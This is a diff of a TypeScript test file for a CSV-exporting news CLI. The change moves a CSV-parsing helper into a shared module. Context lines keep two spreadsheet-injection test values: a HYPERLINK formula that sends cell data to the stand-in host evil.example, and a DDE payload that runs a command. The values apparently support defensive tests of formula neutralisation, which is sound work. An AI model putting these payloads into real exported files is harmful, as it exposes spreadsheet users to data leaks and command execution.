@@ -4,8 +4,8 @@
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { parseString } from 'fast-csv';
 import { ensureBuilt, runCli } from '../helpers/cli.js';
+import { readCsv } from '../helpers/csv.js';
 
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'newsfacts-csv-'));
 beforeAll(ensureBuilt);
@@ -13,16 +13,6 @@ afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
 
 const FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
 const FORMULA_TITLE = "=cmd|' /C calc'!A0";
-
-function readCsv(text: string): Promise<Record<string, string>[]> {
-  return new Promise((resolve, reject) => {
-    const rows: Record<string, string>[] = [];
-    parseString(text, { headers: true })
-      .on('data', (row) => rows.push(row))
-      .on('error', reject)
-      .on('end', () => resolve(rows));
-  });
-}
 
 function articles(): string {
   const file = path.join(tmp, 'articles.ndjson');
